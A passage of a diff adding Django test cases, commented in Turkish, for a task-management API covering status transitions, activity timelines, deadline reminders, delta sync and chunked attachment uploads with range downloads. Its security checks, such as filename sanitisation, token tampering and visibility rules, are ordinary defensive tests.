+        self.assertEqual(response.status_code, 200)
+
+    def test_if_match_rejects_lost_updates(self):
+        etag = self._retrieve()[0]['ETag']
+        path = f'/operations/tasks/{self.task.pk}/'
+
+        response, _ = self._call('patch', {'patch': 'partial_update'}, path, {'title': 'Birinci'}, HTTP_IF_MATCH=etag)
+        self.assertEqual(response.status_code, 200)
+        self.assertNotEqual(response['ETag'], etag)
+
+        # Aynı (artık eski) ETag ile ikinci yazma reddedilir
+        response, _ = self._call('patch', {'patch': 'partial_update'}, path, {'title': 'İkinci'}, HTTP_IF_MATCH=etag)
+        self.assertEqual(response.status_code, 412)
+        response, _ = self._call('post', {'post': 'change_status'}, f'{path}change-status/',
+                                 {'status': 'CANCELLED'}, HTTP_IF_MATCH=etag)
+        self.assertEqual(response.status_code, 412)
+        self.task.refresh_from_db()
+        self.assertEqual((self.task.title, self.task.status), ('Birinci', Task.Status.NEW))
+
+        # If-Match olmadan eski davranış korunur
+        response, _ = self._call('post', {'post': 'change_status'}, f'{path}change-status/', {'status': 'CANCELLED'})
+        self.assertEqual(response.status_code, 200)
+        self.assertEqual(response.data['status'], Task.Status.CANCELLED)
+
+
+@override_settings(CHANNEL_LAYERS=IN_MEMORY_LAYERS, NOTIFICATION_OUTBOX={'MODE': 'sync'})
+class TaskTransitionTests(TestCase):
+    """ Durum makinesi: kilitsiz koşullu UPDATE, koşullar, yarışı kaybeden için 409. """
+
+    @classmethod
+    def setUpTestData(cls):
+        cls.user = User.objects.create_user('sahip@nexus.local', 'parola')
+        cls.other = User.objects.create_user('atanan@nexus.local', 'parola')
+        # Görev oluşturma (POST /tasks/) için
+        role = Role.objects.create(name='Proje Yöneticisi')
+        role.permissions.add(Permission.objects.create(name='tasks.create'))
+        cls.user.roles.add(role)
+
+    def setUp(self):
+        cache.clear()
+        clear_local_cache()
+
+    def tearDown(self):
+        background.flush()
+
+    def _change_status(self, task, new_status):
+        request = APIRequestFactory().post(f'/operations/tasks/{task.pk}/change-status/',
+                                           {'status': new_status}, format='json')
+        force_authenticate(request, user=self.user)
+        with self.captureOnCommitCallbacks(execute=True), CaptureQueriesContext(connection) as ctx:
+            response = TaskViewSet.as_view({'post': 'change_status'})(request, pk=task.pk)
+        return response, ctx
+
+    def test_transition_is_a_single_conditional_update(self):
+        task = Task.objects.create(title='Görev', creator=self.user, assignee=self.other)
+        response, ctx = self._change_status(task, Task.Status.ASSIGNED)
+        self.assertEqual(response.status_code, 200)
+        self.assertEqual(response.data['status'], Task.Status.ASSIGNED)
+        updates = [query['sql'] for query in ctx if query['sql'].startswith('UPDATE "operations_task"')]
+        self.assertEqual(len(updates), 1)
+        self.assertIn('"status" =', updates[0].split('WHERE')[1])
+        self.assertFalse(any('FOR UPDATE' in query['sql'] for query in ctx))
+        self.assertEqual(response.data['version'], 1)
+        self.assertEqual([delta['data']['to'] for delta in replay_task_deltas(task.pk, 0, 1)], ['ASSIGNED'])
+
+    def test_invalid_transitions_and_guards_return_409(self):
+        task = Task.objects.create(title='Görev', creator=self.user)
+        response, _ = self._change_status(task, Task.Status.COMPLETED)
+        self.assertEqual(response.status_code, 409)
+        response, _ = self._change_status(task, Task.Status.ASSIGNED)
+        self.assertEqual(response.status_code, 409)
+        self.assertEqual(response.data['error'], 'Görevin bir sorumlusu olmalı.')
+        self.assertEqual(Task.objects.get(pk=task.pk).version, 0)
+
+        # Aynı duruma geçiş bir şey yazmaz; bilinmeyen görev 404
+        response, ctx = self._change_status(task, Task.Status.NEW)
+        self.assertEqual(response.status_code, 200)
+        self.assertFalse(any(query['sql'].startswith('UPDATE') for query in ctx))
+        response, _ = self._change_status(Task(pk=999999), Task.Status.CANCELLED)
+        self.assertEqual(response.status_code, 404)
+
+    def test_losing_a_race_returns_409(self):
+        task = Task.objects.create(title='Görev', creator=self.user, assignee=self.other,
+                                   status=Task.Status.IN_PROGRESS)
+        # İki istemci aynı IN_PROGRESS görevi gördü; biri tamamladı, diğeri iptal etmek istiyor
+        self.assertEqual(self._change_status(task, Task.Status.COMPLETED)[0].status_code, 200)
+        response, _ = self._change_status(task, Task.Status.CANCELLED)
+        self.assertEqual(response.status_code, 409)
+        task.refresh_from_db()
+        self.assertEqual(task.status, Task.Status.COMPLETED)
+        self.assertIsNotNone(task.completed_at)
+
+    def test_many_tasks_at_once(self):
+        tasks = [Task.objects.create(title=f'Görev {i}', creator=self.user, assignee=self.other) for i in range(20)]
+        done = Task.objects.create(title='Bitti', creator=self.user, status=Task.Status.COMPLETED)
+        ids = [task.pk for task in tasks]
+        logged = ChangeLog.objects.count()
+        with self.captureOnCommitCallbacks(execute=True), CaptureQueriesContext(connection) as ctx:
+            results = transition_tasks(self.user, [*ids, done.pk], Task.Status.CANCELLED)
+        self.assertEqual(results, {**{task_id: 'updated' for task_id in ids}, done.pk: 'invalid_transition'})
+        # CANCELLED'a üç kaynak durumdan geçilebilir; görev sayısından bağımsız
+        updates = [query['sql'] for query in ctx if query['sql'].startswith('UPDATE "operations_task"')]
+        self.assertEqual(len(updates), 3)
+        # Senkronizasyon günlüğü: görev başına oluşturana ve sorumluya birer satır
+        self.assertEqual(ChangeLog.objects.count() - logged, 40)
+        self.assertEqual(set(Task.objects.filter(pk__in=ids).values_list('status', 'version')),
+                         {(Task.Status.CANCELLED, 1)})
+
+        counts = lambda: sorted(TaskRollup.objects.values_list('kind', 'day', 'status').annotate(total=Sum('count'))
+                                .filter(total__gt=0).order_by())
+        incremental = counts()
+        rebuild_task_rollups()
+        self.assertEqual(incremental, counts())
+
+    def test_update_cannot_change_status(self):
+        task = Task.objects.create(title='Görev', creator=self.user)
+        request = APIRequestFactory().patch(f'/operations/tasks/{task.pk}/', {'status': 'COMPLETED'}, format='json')
+        force_authenticate(request, user=self.user)
+        response = TaskViewSet.as_view({'patch': 'partial_update'})(request, pk=task.pk)
+        self.assertEqual(response.status_code, 400)
+        self.assertEqual(Task.objects.get(pk=task.pk).status, Task.Status.NEW)
+
+    def test_create_starts_new_or_assigned(self):
+        def create(**data):
+            request = APIRequestFactory().post('/operations/tasks/', {'title': 'Görev', **data}, format='json')
+            force_authenticate(request, user=self.user)
+            return TaskViewSet.as_view({'post': 'create'})(request)
+
+        # 400'ler serileştiricinin durum kuralından gelir (yetki kontrolü geçilir)
+        for data in ({'status': 'COMPLETED'}, {'status': 'CANCELLED', 'assignee_id': self.other.pk}):
+            response = create(**data)
+            self.assertEqual(response.status_code, 400)
+            self.assertEqual(response.data['status'], ['Yeni görev sadece NEW veya ASSIGNED durumunda oluşturulabilir.'])
+        response = create(status='ASSIGNED')
+        self.assertEqual(response.status_code, 400)
+        self.assertEqual(response.data['status'], ['Görevin bir sorumlusu olmalı.'])
+        self.assertFalse(Task.objects.exists())
+
+        response = create()
+        self.assertEqual((response.status_code, response.data['status']), (201, Task.Status.NEW))
+        response = create(status='ASSIGNED', assignee_id=self.other.pk)
+        self.assertEqual((response.status_code, response.data['status']), (201, Task.Status.ASSIGNED))
+        self.assertEqual(Task.objects.get(pk=response.data['id']).assignee_id, self.other.pk)
+
+
+@override_settings(CHANNEL_LAYERS=IN_MEMORY_LAYERS, NOTIFICATION_OUTBOX={'MODE': 'sync'})
+class TaskActivityTests(TestCase):
+    """ Görev geçmişi: sıkıştırılmış farklar, istek başına tek INSERT, zaman çizelgesi ve analizler. """
+
+    @classmethod
+    def setUpTestData(cls):
+        cls.user = User.objects.create_user('sahip@nexus.local', 'parola')
+        cls.other = User.objects.create_user('atanan@nexus.local', 'parola')
+        cls.stranger = User.objects.create_user('yabanci@nexus.local', 'parola')
+
+    def setUp(self):
+        cache.clear()
+        clear_local_cache()
+
+    def tearDown(self):
+        background.flush()
+
+    def _timeline(self, task, user=None, **params):
+        request = APIRequestFactory().get(f'/operations/tasks/{task.pk}/timeline/', params)
+        force_authenticate(request, user=user or self.user)
+        return TaskViewSet.as_view({'get': 'timeline'})(request, pk=task.pk)
+
+    def test_request_writes_its_activity_in_one_insert(self):
+        def view(request):
+            with self.captureOnCommitCallbacks(execute=True):
+                task = Task.objects.create(title='Görev', creator=self.user)
+            with self.captureOnCommitCallbacks(execute=True):
+                task.title, task.assignee, task.description = 'Yeni başlık', self.other, 'uzun metin'
+                task.save()
+            with self.captureOnCommitCallbacks(execute=True):
+                task.save()  # Değişiklik yok: satır yazılmaz
+            return task
+
+        request = APIRequestFactory().post('/')
+        request.user = self.user
+        with CaptureQueriesContext(connection) as ctx:
+            task = ActivityLogMiddleware(view)(request)
+        inserts = [query for query in ctx if query['sql'].startswith('INSERT INTO "operations_taskactivity"')]
+        self.assertEqual(len(inserts), 1)
+
+        created, changed = TaskActivity.objects.filter(task=task)
+        self.assertEqual((created.kind, changed.kind), (TaskActivity.Kind.CREATED, TaskActivity.Kind.CHANGED))
+        self.assertEqual({created.actor_id, changed.actor_id}, {self.user.pk})
+        self.assertEqual(changed.assignee_id, self.other.pk)
+
+        data = self._timeline(task).data
+        self.assertEqual([item['kind'] for item in data['results']], ['created', 'changed'])
+        self.assertEqual(data['results'][1]['changes'], {
+            'assignee': {'from': None, 'to': self.other.pk},
+            'title': {'from': 'Görev', 'to': 'Yeni başlık'},
+            'description': {'from': None, 'to': None},
+        })
+        self.assertEqual(data['results'][1]['actor']['email'], 'sahip@nexus.local')
+        self.assertEqual(self._timeline(task, user=self.stranger).status_code, 404)
+
+    def test_rolled_back_changes_are_not_logged(self):
+        with self.captureOnCommitCallbacks(execute=True):
+            task = Task.objects.create(title='Görev', creator=self.user)
+        try:
+            with self.captureOnCommitCallbacks(execute=True), transaction.atomic():
+                task.title = 'Geri alınacak'
+                task.save()
+                raise RuntimeError
+        except RuntimeError:
+            pass
+        self.assertEqual(TaskActivity.objects.filter(task=task).count(), 1)
+
+    def test_transitions_bulk_updates_and_analytics(self):
+        with self.captureOnCommitCallbacks(execute=True):
+            tasks = [Task.objects.create(title=f'Görev {i}', creator=self.user, assignee=self.user,
+                                         due_date=timezone.now() + timedelta(days=1)) for i in range(3)]
+        ids = [task.pk for task in tasks]
+        with self.captureOnCommitCallbacks(execute=True):
+            bulk_update_tasks(self.user, ids[:1], {'assignee': self.other})
+        for target in (Task.Status.ASSIGNED, Task.Status.IN_PROGRESS, Task.Status.COMPLETED):
+            with self.captureOnCommitCallbacks(execute=True):
+                transition_tasks(self.user, ids[:2], target)
+
+        statuses = [item['changes'].get('status') for item in self._timeline(tasks[0]).data['results']]
+        self.assertEqual(statuses, [
+            {'from': None, 'to': 'NEW'}, None, {'from': 'NEW', 'to': 'ASSIGNED'},
+            {'from': 'ASSIGNED', 'to': 'IN_PROGRESS'}, {'from': 'IN_PROGRESS', 'to': 'COMPLETED'},
+        ])
+        self.assertEqual(set(TaskActivity.objects.filter(task__in=ids).values_list('actor_id', flat=True)),
+                         {None, self.user.pk})
+
+        # İkinci görev son teslim tarihinden iki gün sonra tamamlanmış olsun
+        created = TaskActivity.objects.filter(kind=TaskActivity.Kind.CREATED, task=ids[1]).get()
+        TaskActivity.objects.filter(task=ids[1], status=Task.Status.COMPLETED)\
+                            .update(timestamp=created.timestamp + timedelta(days=3))
+        with self.assertNumQueries(1):
+            durations = {row['task']: row['duration'] for row in completion_times()}
+        self.assertEqual(set(durations), set(ids[:2]))
+        self.assertEqual(durations[ids[1]].days, 3)
+        self.assertEqual(list(overdue_completions().values_list('task', flat=True)), [ids[1]])
+        self.assertEqual(list(reassignments().values_list('task', 'count')), [(ids[0], 1)])
+        # Sayfalama: eskiden yeniye, cursor ile
+        first = self._timeline(tasks[0], page_size=2).data
+        cursor = first['next'].split('cursor=')[1].split('&')[0]
+        rest = self._timeline(tasks[0], page_size=10, cursor=cursor).data
+        self.assertEqual(len(first['results']) + len(rest['results']), 5)
+
+
+@override_settings(
+    NOTIFICATION_OUTBOX={'MODE': 'sync'},
+    TASK_DEADLINES={'REMIND_BEFORE': 60 * 60, 'ESCALATE_AFTER': 0, 'HORIZON': 6 * 60 * 60},
+)
+class DeadlineTests(TestCase):
+    """ Son teslim tarihi zamanlayıcıları: sıralama, tek seferlik gönderim ve değişikliklerin yayını. """
+
+    @classmethod
+    def setUpTestData(cls):
+        cls.user = User.objects.create_user('sahip@nexus.local', 'parola')
+        cls.other = User.objects.create_user('atanan@nexus.local', 'parola')
+
+    def setUp(self):
+        cache.clear()
+        clear_local_cache()
+
+    def tearDown(self):
+        background.flush()
+
+    def _fire(self, worker, now):
+        with self.captureOnCommitCallbacks(execute=True):
+            return worker.fire_due(now.timestamp())
+
+    def _notifications(self, task):
+        return sorted(Notification.objects.filter(object_id=task.pk).values_list('recipient_id', 'verb'))
+
+    def test_scheduler_orders_timers_and_skips_stale_entries(self):
+        scheduler = DeadlineScheduler(remind_before=100, escalate_after=10)
+        scheduler.set_deadline(1, 1000)
+        scheduler.set_deadline(2, 500)
+        scheduler.set_deadline(1, 2000)          # 1000'e ait girdiler eskidi
+        scheduler.set_deadline(3, 800, sent=(REMINDER,))
+        scheduler.set_deadline(4, 600)
+        scheduler.set_deadline(4, None)          # Son teslim tarihi kaldırıldı
+        self.assertEqual(len(scheduler), 3)
+        self.assertEqual(scheduler.next_at(), 400)
+        self.assertEqual(scheduler.pop_due(until=1000, limit=2), [(2, REMINDER), (2, ESCALATION)])
+        self.assertEqual(scheduler.pop_due(until=1000, limit=10), [(3, ESCALATION)])
+        self.assertEqual(scheduler.next_at(), 1900)
+        self.assertEqual(scheduler.pop_due(until=5000, limit=10), [(1, REMINDER), (1, ESCALATION)])
+        self.assertEqual((len(scheduler), scheduler.next_at()), (0, None))
+
+    def test_each_notification_is_sent_once_per_due_date(self):
+        now = timezone.now()
+        task = Task.objects.create(title='Görev', creator=self.user, assignee=self.other,
+                                   due_date=now + timedelta(minutes=30))
+        Task.objects.create(title='Kapalı', creator=self.user, status=Task.Status.CANCELLED,
+                            due_date=now + timedelta(minutes=30))
+        Task.objects.create(title='Uzak', creator=self.user, due_date=now + timedelta(days=30))
+
+        worker = DeadlineWorker()
+        self.assertEqual(worker.load(now.timestamp()), 1)
+        self.assertEqual(self._fire(worker, now), 1)
+        self.assertEqual(self._notifications(task), [(self.other.pk, 'görevinin son teslim tarihi yaklaşıyor:')])
+
+        # Yeniden başlayan worker aynı tarih için tekrar hatırlatmaz; tam kayıt işareti ezmez
+        task.title = 'Yeni başlık'
+        task.save()
+        restarted = DeadlineWorker()
+        restarted.load(now.timestamp())
+        self.assertEqual(self._fire(restarted, now), 0)
+        self.assertEqual(self._fire(restarted, now + timedelta(minutes=31)), 2)
+        self.assertEqual(self._fire(restarted, now + timedelta(minutes=45)), 0)
+        self.assertEqual(Notification.objects.filter(object_id=task.pk).count(), 3)
+
+        # Son teslim tarihi ertelenince iki bildirim de yeniden gider
+        task.due_date = now + timedelta(hours=2)
+        task.save()
+        restarted.apply({'type': 'task.update', 'changes': [{'id': task.pk, 'due_date': task.due_date.isoformat()}]})
+        self.assertEqual(self._fire(restarted, now + timedelta(minutes=45)), 0)
+        self.assertEqual(self._fire(restarted, now + timedelta(minutes=61)), 1)
+        self.assertEqual(self._fire(restarted, now + timedelta(hours=2)), 2)
+        self.assertEqual(Notification.objects.filter(object_id=task.pk).count(), 6)
+
+        # Yeniden başlatma: pencere baştan yüklenir, gönderilmişler tekrar kurulmaz
+        restarted.reset()
+        self.assertEqual(restarted.wait_time(), 0)
+        self.assertEqual(restarted.load(now.timestamp()), 1)
+        self.assertIsNone(restarted.scheduler.next_at())
+
+    def test_locked_timers_are_retried(self):
+        now = timezone.now()
+        task = Task.objects.create(title='Görev', creator=self.user, assignee=self.other,
+                                   due_date=now - timedelta(minutes=1))
+        worker = DeadlineWorker()
+        worker.load(now.timestamp())
+
+        # Başka bir worker satırı kilitlemiş: yükseltme atlanır ama yığından çıktığı halde kaybolmaz
+        locked = lambda timers, until: (0, [(task.pk, ESCALATION, task.due_date)])
+        with patch('operations.deadlines.fire_timers', side_effect=locked) as fire:
+            self.assertEqual(self._fire(worker, now), 0)
+        self.assertEqual(fire.call_count, 1)
+        self.assertEqual(len(worker.scheduler), 1)
+        self.assertEqual(self._fire(worker, now), 0)
+        self.assertEqual(self._fire(worker, now + timedelta(seconds=10)), 2)
+        self.assertEqual(len(worker.scheduler), 0)
+
+    def test_due_date_changes_are_published_to_the_worker(self):
+        with patch('operations.deadlines.background') as published:
+            with self.captureOnCommitCallbacks(execute=True):
+                task = Task.objects.create(title='Görev', creator=self.user, due_date=timezone.now())
+            with self.captureOnCommitCallbacks(execute=True):
+                task.title = 'Yeni başlık'
+                task.save()
+            with self.captureOnCommitCallbacks(execute=True):
+                bulk_update_tasks(self.user, [task.pk], {'due_date': None})
+        # Görev yayınlarının birleştiricisinden geçmez; commit başına bir olay
+        published.submit.assert_not_called()
+        self.assertEqual(
+            [call.args for call in published.send.call_args_list],
+            [(DEADLINE_GROUP, {'type': DEADLINE_EVENT, 'changes': [{'id': task.pk, 'due_date': task.due_date.isoformat()}]}),
+             (DEADLINE_GROUP, {'type': DEADLINE_EVENT, 'changes': [{'id': task.pk, 'due_date': None}]})],
+        )
+
+
+@override_settings(SYNC={'SETTLE_SECONDS': 0}, NOTIFICATION_OUTBOX={'MODE': 'sync'})
+class SyncViewTests(TestCase):
+    """ Delta senkronizasyonu: sadece değişenler, silinenler ve değişiklik sayısıyla orantılı maliyet. """
+
+    @classmethod
+    def setUpTestData(cls):
+        cls.user = User.objects.create_user('sahip@nexus.local', 'parola')
+        cls.other = User.objects.create_user('diger@nexus.local', 'parola')
+
+    def setUp(self):
+        cache.clear()
+        clear_local_cache()
+
+    def tearDown(self):
+        background.flush()
+
+    def _sync(self, token=None, user=None):
+        request = APIRequestFactory().get('/api/sync/', {'since': token} if token else {})
+        force_authenticate(request, user=user or self.user)
+        with self.captureOnCommitCallbacks(execute=True), CaptureQueriesContext(connection) as ctx:
+            response = SyncView.as_view()(request)
+        return response, len(ctx)
+
+    def test_returns_only_changes_since_token(self):
+        Task.objects.create(title='Eski', creator=self.user)
+        response, _ = self._sync()
+        self.assertTrue(response.data['reset'])
+        token = response.data['token']
+
+        task = Task.objects.create(title='Yeni', creator=self.user)
+        comment = TaskComment.objects.create(task=task, author=self.user, content='yorum')
+        task.title = 'Yeni (düzenlendi)'
+        task.save()
+        response, _ = self._sync(token)
+        self.assertFalse(response.data['reset'])
+        self.assertEqual([item['title'] for item in response.data['tasks']], ['Yeni (düzenlendi)'])
+        self.assertEqual([item['id'] for item in response.data['comments']], [comment.pk])
+        token = response.data['token']
+
+        # Token sonrası değişiklik yoksa boş yanıt
+        response, _ = self._sync(token)
+        self.assertEqual(response.data['tasks'], [])
+        # Token zaman damgası taşır; karşılaştırılan konumdur
+        self.assertEqual(decode_token(response.data['token']), decode_token(token))
+
+    def test_deletions_and_lost_visibility_are_tombstones(self):
+        kept = Task.objects.create(title='Başkasına geçecek', creator=self.other, assignee=self.user)
+        removed = Task.objects.create(title='Silinecek', creator=self.user)
+        comment = TaskComment.objects.create(task=removed, author=self.user, content='yorum')
+        token = self._sync()[0].data['token']
+
+        removed_pk = removed.pk
+        removed.delete()
+        kept.assignee = self.other
+        kept.save()
+        response, _ = self._sync(token)
+        self.assertEqual(response.data['tasks'], [])
+        self.assertEqual(sorted(response.data['deleted']['tasks']), sorted([kept.pk, removed_pk]))
+        self.assertEqual(response.data['deleted']['comments'], [comment.pk])
+
+    def test_unrelated_users_get_no_tombstones(self):
+        token = self._sync(user=self.other)[0].data['token']
+        task = Task.objects.create(title='Özel', creator=self.user)
+        TaskComment.objects.create(task=task, author=self.user, content='yorum')
+        task.delete()
+        Task.objects.create(title='Başka özel', creator=self.user)
+        response, _ = self._sync(token, user=self.other)
+        self.assertEqual(response.data['deleted'], {key: [] for key in SyncView.KEYS.values()})
+        self.assertEqual(response.data['tasks'], [])
+
+    def test_notifications_are_per_recipient(self):
+        token = self._sync()[0].data['token']
+        other_token = self._sync(user=self.other)[0].data['token']
+        task = Task.objects.create(title='Görev', creator=self.user)
+        with self.captureOnCommitCallbacks(execute=True):
+            TaskComment.objects.create(task=task, author=self.user, content='@diger bakar mısın?')
+
+        self.assertEqual(self._sync(token)[0].data['notifications'], [])
+        response, _ = self._sync(other_token, user=self.other)
+        self.assertEqual(len(response.data['notifications']), 1)
+
+    def test_query_count_is_independent_of_data_size(self):
+        for i in range(20):
+            Task.objects.create(title=f'Eski {i}', creator=self.user)
+        token = self._sync()[0].data['token']
+        self._sync(token)  # Yetki önbelleğini ısıt
+        Task.objects.create(title='Yeni 1', creator=self.user)
+        few = self._sync(token)[1]
+        for i in range(20):
+            Task.objects.create(title=f'Yeni {i + 2}', creator=self.user)
+        response, many = self._sync(token)
+        self.assertEqual(len(response.data['tasks']), 21)
+        self.assertEqual(few, many)
+
+    def test_rejects_tampered_token(self):
+        token = self._sync()[0].data['token']
+        response, _ = self._sync(token[:-2] + 'xx')
+        self.assertEqual(response.status_code, 400)
+
+
+class AttachmentUploadTests(TestCase):
+    """ Parçalı yükleme (checksum, devam etme, birleştirme) ve Range destekli indirme. """
+
+    @classmethod
+    def setUpTestData(cls):
+        cls.user = User.objects.create_user('sahip@nexus.local', 'parola')
+        cls.stranger = User.objects.create_user('yabanci@nexus.local', 'parola')
+        cls.task = Task.objects.create(title='Görev', creator=cls.user)
+
+    def setUp(self):
+        media_root = tempfile.mkdtemp()
+        self.addCleanup(shutil.rmtree, media_root, ignore_errors=True)
+        settings = override_settings(
+            MEDIA_ROOT=media_root,
+            ATTACHMENT_UPLOADS={'CHUNK_SIZE': 4},
+            ATTACHMENT_PREVIEWS={'MODE': 'sync', 'SIZES': [16, 64, 1024]},
+            NOTIFICATION_OUTBOX={'MODE': 'sync'},
+        )
+        settings.enable()
+        self.addCleanup(settings.disable)
+
+    def tearDown(self):
+        background.flush()
+
+    def _call(self, method, actions, path, data=None, user=None, view=AttachmentUploadViewSet, **kwargs):
+        factory_kwargs = {'format': 'json'} if not isinstance(data, bytes) else {'content_type': 'application/octet-stream'}
+        headers = {key: kwargs.pop(key) for key in list(kwargs) if key.startswith('HTTP_')}
+        request = getattr(APIRequestFactory(), method)(path, data, **factory_kwargs, **headers)
+        force_authenticate(request, user=user or self.user)
+        with self.captureOnCommitCallbacks(execute=True):
+            handler = view.as_view(actions) if actions else view.as_view()
+            return handler(request, **kwargs)
+
+    def _put_chunk(self, upload_id, index, data, checksum=None):
+        return self._call('put', {'put': 'chunk'}, f'/operations/attachment-uploads/{upload_id}/chunks/{index}/', data,
+                          pk=upload_id, index=str(index),
+                          HTTP_X_CHUNK_SHA256=checksum or hashlib.sha256(data).hexdigest())
+
+    def _upload(self, content, filename='rapor.pdf'):
+        response = self._call('post', {'post': 'create'}, '/operations/attachment-uploads/',
+                              {'task': self.task.pk, 'filename': filename, 'size': len(content)})
+        self.assertEqual(response.status_code, 201)
+        return response.data
+
+    def test_chunked_upload_resumes_and_assembles(self):
+        content = b'0123456789'
+        upload = self._upload(content, filename='../../rapor.pdf')
+        self.assertEqual(upload['chunk_count'], 3)
+
+        self.assertEqual(self._put_chunk(upload['id'], 2, content[8:]).status_code, 204)
+        # Bozuk parça yazılmaz
+        self.assertEqual(self._put_chunk(upload['id'], 0, content[:4], checksum='0' * 64).status_code, 400)
+        status = self._call('get', {'get': 'retrieve'}, '/', pk=upload['id'])
+        self.assertEqual(status.data['received_chunks'], [2])
+
+        response = self._call('post', {'post': 'complete'}, '/', pk=upload['id'])
+        self.assertEqual(response.status_code, 400)
+        self._put_chunk(upload['id'], 0, content[:4])
+        self._put_chunk(upload['id'], 1, content[4:8])
+        response = self._call('post', {'post': 'complete'}, '/', {'sha256': hashlib.sha256(content).hexdigest()},
+                              pk=upload['id'])
+        self.assertEqual(response.status_code, 201)
+
+        attachment = TaskAttachment.objects.get(pk=response.data['id'])
+        self.assertEqual(attachment.filename, 'rapor.pdf')
+        self.assertEqual(attachment.file.name, attachment.blob.file.name)
+        with attachment.file.open('rb') as stored:
+            self.assertEqual(stored.read(), content)
+        self.assertFalse(AttachmentUpload.objects.exists())
+
+    def test_rejects_oversized_chunks_and_other_users(self):
+        upload = self._upload(b'abcdef')
+        self.assertEqual(self._put_chunk(upload['id'], 0, b'abcde').status_code, 400)
+        self.assertEqual(self._put_chunk(upload['id'], 5, b'ab').status_code, 400)
+        response = self._call('get', {'get': 'retrieve'}, '/', pk=upload['id'], user=self.stranger)
+        self.assertEqual(response.status_code, 404)
+
+    def test_download_supports_ranges_and_checks_visibility(self):
+        content = b'0123456789'
+        upload = self._upload(content)
+        for index in range(3):
+            self._put_chunk(upload['id'], index, content[index * 4:index * 4 + 4])
+        attachment_id = self._call('post', {'post': 'complete'}, '/', pk=upload['id']).data['id']
+
+        download = lambda **headers: self._call('get', None, '/', view=TaskAttachmentDownloadView,
+                                                 pk=attachment_id, **headers)
+        response = download()
+        self.assertEqual(b''.join(response.streaming_content), content)
+        self.assertEqual(response['Accept-Ranges'], 'bytes')
+
+        response = download(HTTP_RANGE='bytes=2-5')
+        self.assertEqual(response.status_code, 206)
+        self.assertEqual(response['Content-Range'], 'bytes 2-5/10')
+        self.assertEqual(b''.join(response.streaming_content), b'2345')
+        self.assertEqual(b''.join(download(HTTP_RANGE='bytes=-3').streaming_content), b'789')
+        self.assertEqual(download(HTTP_RANGE='bytes=20-').status_code, 416)
+        self.assertEqual(download(HTTP_RANGE='bytes=20-25').status_code, 416)
+        # Son bayt ilkinden önce: geçersiz başlık yok sayılır, dosyanın tamamı gelir
+        response = download(HTTP_RANGE='bytes=5-3')
+        self.assertEqual(response.status_code, 200)
+        self.assertEqual(b''.join(response.streaming_content), b'0123456789')
+
+        response = self._call('get', None, '/', view=TaskAttachmentDownloadView, pk=attachment_id, user=self.stranger)
+        self.assertEqual(response.status_code, 404)
+
+    @override_settings(FILE_SERVING={'BACKEND': 'nginx', 'ACCEL_PREFIX': '/protected-media/'})
+    def test_download_can_be_offloaded_to_nginx(self):
+        attachment = TaskAttachment.objects.create(task=self.task, uploader=self.user, file='tasks/1/attachments/a b.pdf')
+        response = self._call('get', None, '/', view=TaskAttachmentDownloadView, pk=attachment.pk)
+        self.assertEqual(response['X-Accel-Redirect'], '/protected-media/tasks/1/attachments/a%20b.pdf')
+        self.assertEqual(response.content, b'')
+
+    def test_identical_content_is_stored_once(self):
+        content = b'ayni kilavuz'
+        digest = hashlib.sha256(content).hexdigest()
+        other_task = Task.objects.create(title='Diğer görev', creator=self.user)
+        request = APIRequestFactory().post('/', {'file': SimpleUploadedFile('kilavuz.pdf', content)}, format='multipart')
+        force_authenticate(request, user=self.user)
+        response = TaskAttachmentCreateView.as_view()(request, task_pk=self.task.pk)
+        self.assertEqual(response.status_code, 201)
+
+        # Aynı içerik: parça göndermeden tamamlanır
+        response = self._call('post', {'post': 'create'}, '/', {
+            'task': other_task.pk, 'filename': 'kopya.pdf', 'size': len(content), 'sha256': digest,
+        })
+        self.assertEqual(response.status_code, 201)
+        self.assertEqual(response.data['attachment']['filename'], 'kopya.pdf')
+
+        blob = AttachmentBlob.objects.get()
+        self.assertEqual((blob.sha256, blob.ref_count), (digest, 2))
+        self.assertEqual(set(TaskAttachment.objects.values_list('file', flat=True)), {blob.file.name})
+
+        # Görmediği bir görevdeki içeriğin özetini bilen kullanıcı parçaları göndermek zorundadır
+        own_task = Task.objects.create(title='Yabancının görevi', creator=self.stranger)
+        response = self._call('post', {'post': 'create'}, '/', {
+            'task': own_task.pk, 'filename': 'kopya.pdf', 'size': len(content), 'sha256': digest,
+        }, user=self.stranger)
+        self.assertEqual(response.status_code, 201)
+        self.assertNotIn('attachment', response.data)
+        self.assertEqual(response.data['received_chunks'], [])
+        self.assertFalse(TaskAttachment.objects.filter(task=own_task).exists())
+        AttachmentUpload.objects.filter(task=own_task).delete()
+
+        # Son referans silinene kadar blob kalır
+        with self.captureOnCommitCallbacks(execute=True):
+            other_task.delete()
+        self.assertEqual(collect_garbage(), (0, 0))
+        with self.captureOnCommitCallbacks(execute=True):
+            TaskAttachment.objects.filter(task=self.task).delete()
+        self.assertEqual(collect_garbage(), (1, 0))
+        self.assertFalse(default_storage.exists(blob.file.name))
+
+    def test_direct_attach_and_comment_require_a_visible_task(self):
+        def post(view, data, task_pk, format):
+            request = APIRequestFactory().post('/', data, format=format)
+            force_authenticate(request, user=self.stranger)
+            return view.as_view()(request, task_pk=task_pk)
+
+        upload = lambda: {'file': SimpleUploadedFile('gizli.pdf', b'icerik')}
+        self.assertEqual(post(TaskAttachmentCreateView, upload(), self.task.pk, 'multipart').status_code, 404)
+        self.assertEqual(post(TaskAttachmentCreateView, upload(), 999999, 'multipart').status_code, 404)
+        self.assertEqual(post(TaskCommentCreateView, {'content': 'Merhaba'}, self.task.pk, 'json').status_code, 404)
+        self.assertEqual(post(TaskCommentCreateView, {'content': 'Merhaba'}, 999999, 'json').status_code, 404)
+        self.assertFalse(TaskAttachment.objects.exists())
+        self.assertFalse(AttachmentBlob.objects.exists())
+        self.assertFalse(TaskComment.objects.exists())
+
+    def _attach(self, content, filename, task=None):
+        request = APIRequestFactory().post('/', {'file': SimpleUploadedFile(filename, content)}, format='multipart')
+        force_authenticate(request, user=self.user)
+        with self.captureOnCommitCallbacks(execute=True):
+            response = TaskAttachmentCreateView.as_view()(request, task_pk=(task or self.task).pk)
+        self.assertEqual(response.status_code, 201)
+        # Önizleme commit sonrası üretilir; güncel hali
+        attachment = TaskAttachment.objects.select_related('uploader', 'blob').get(pk=response.data['id'])
+        return TaskAttachmentSerializer(attachment).data
+
+    def test_images_get_metadata_and_thumbnails_once(self):
+        buffer = io.BytesIO()
+        Image.new('RGB', (200, 100), 'red').save(buffer, 'JPEG')
+        attachment = self._attach(buffer.getvalue(), 'saha.jpg')
+
+        self.assertEqual((attachment['width'], attachment['height']), (200, 100))
